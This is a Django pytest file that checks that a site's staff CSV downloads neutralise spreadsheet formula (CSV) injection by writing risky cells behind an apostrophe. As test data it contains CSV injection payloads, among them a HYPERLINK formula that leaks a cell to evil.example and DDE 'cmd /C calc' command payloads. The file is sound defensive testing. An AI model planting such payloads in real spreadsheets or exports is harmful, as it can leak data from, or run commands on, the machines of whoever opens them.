"""Every CSV the site offers staff is safe to open in a spreadsheet: a cell starting with =, +, -,
@, a tab or a carriage return (a formula, "CSV injection") is written behind an apostrophe, so it
opens as text (base.spreadsheets). Each download is fetched through the admin, as staff do."""
import csv
import io

import pytest
from django.urls import reverse

from base.models import ContactMessage, Topic
from base.spreadsheets import FORMULA_PREFIXES, csv_download, safe_cell
from engagement.models import Answer
from events.models import Booking
from tests.engagement.conftest import exercise, have_your_say, respond  # noqa: F401 - fixtures
from tests.events.conftest import book, events_index, make_event  # noqa: F401 - fixtures
from tests.factories import UserFactory, activate_totp
from tests.privacy.conftest import signed_in

pytestmark = pytest.mark.django_db

# What a person or a careless colleague could type, each a formula a spreadsheet would run.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EMAIL = "sam@example.org"
PHONE = "+33123456789"  # kept as +digits (base.phone): a number from abroad starts with +


@pytest.fixture
def healthwatch_client(db):
    """Healthwatch staff with two-factor authentication: every export is theirs to download."""
    from accounts.roles import HEALTHWATCH_STAFF

    return signed_in(activate_totp(UserFactory(groups=[HEALTHWATCH_STAFF])))


def sams_booking(events_index):
    event = make_event(events_index, title="Respiratory workshop")
    booking = book(event, email=EMAIL, phone=PHONE).booking
    Booking.objects.filter(pk=booking.pk).update(name=FORMULAS[0], access_needs_other=FORMULAS[1],
                                                 access_arranged=FORMULAS[2])
    return event


def download_event_bookings(client, events_index, exercise):
    event = sams_booking(events_index)
    second = book(event, email="alex@example.org").booking
    Booking.objects.filter(pk=second.pk).update(name=FORMULAS[3], access_needs_other=FORMULAS[4],
                                                access_arranged=FORMULAS[5])
    return client.get(reverse("event-bookings:export", args=[event.pk]))


def download_feedback(client, events_index, exercise):
    for number, formula in enumerate(FORMULAS):
        response = respond(exercise, f"Answer {number}")
        Answer.objects.filter(response=response, text=f"Answer {number}").update(text=formula)
    return client.get(reverse("feedback-responses:export"), {"exercise": exercise.pk})


def download_privacy_export(client, events_index, exercise):
    sams_booking(events_index)
    ContactMessage.objects.create(name=FORMULAS[3], email=EMAIL, subject=FORMULAS[4], message=FORMULAS[5])
    return client.post(reverse("personal-data:export"), {"person": EMAIL, "format": "csv"})


def download_reach_dashboard(client, events_index, exercise):
    for number, formula in enumerate(FORMULAS):
        Topic.objects.create(kind=Topic.Kind.PATHWAY, name=formula, slug=f"formula-{number}")
    return client.get(reverse("user-group-reach:export"))


@pytest.mark.parametrize("download", [
    download_event_bookings, download_feedback, download_privacy_export, download_reach_dashboard,
], ids=lambda download: download.__name__.removeprefix("download_"))
def test_no_cell_of_any_csv_download_runs_as_a_formula(healthwatch_client, events_index, exercise, download):
    response = download(healthwatch_client, events_index, exercise)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline=""))
             for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    for formula in FORMULAS:  # each one is there, as text
        assert "'" + formula in cells


@pytest.mark.parametrize("download", [download_event_bookings, download_privacy_export])
def test_a_phone_number_from_abroad_stays_readable_as_text(healthwatch_client, events_index, exercise, download):
    response = download(healthwatch_client, events_index, exercise)
    cells = [cell for row in csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline=""))
             for cell in row]
    # The number, with the apostrophe that keeps it text (spaced for reading where the export
    # formats phone numbers).
    assert "'+33123456789" in cells or "'+33 1 23 45 67 89" in cells


def test_safe_cell_leaves_ordinary_values_alone():
    assert [safe_cell(value) for value in ["Sam", "07700900123", "", None, 3, -2, True, "a=b", " =1"]] == [
        "Sam", "07700900123", "", "", 3, -2, True, "a=b", " =1"]


def test_a_long_download_is_sent_in_pieces_as_its_rows_are_read():
    read = []

    def rows():
        for number in range(20000):
            read.append(number)
            yield [f"=Row {number}", number]

    response = csv_download(rows(), "long.csv")
    assert response.streaming and response["Content-Disposition"] == 'attachment; filename="long.csv"'
    assert "no-store" in response["Cache-Control"]
    chunks = iter(response.streaming_content)
    first = next(chunks)
    assert first.startswith("\ufeff'=Row 0,0\r\n".encode()) and len(read) < 20000  # sent before all are read
    text = (first + b"".join(chunks)).decode("utf-8-sig")
    assert text.splitlines()[-1] == "'=Row 19999,19999" and len(read) == 20000


def test_skipped_import_rows_sent_back_through_the_form_download_with_formulas_as_text(db):
    """The skipped rows travel in the import page's form; whatever is posted, the download is
    written again cell by cell, so an altered form cannot slip a formula into the file."""
    from accounts.roles import COMMS_TEAM

    client = signed_in(UserFactory(groups=[COMMS_TEAM], mfa=True))
    posted = "email,name,problem\r\n" + "".join(f'{EMAIL},"{formula.replace(chr(34), chr(34) * 2)}",No list\r\n'
                                                  for formula in FORMULAS)
    response = client.post(reverse("newsletter-subscribers:import_skipped"), {"skipped": posted})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
    assert rows == [["email", "name", "problem"]] + [[EMAIL, "'" + formula, "No list"] for formula in FORMULAS]
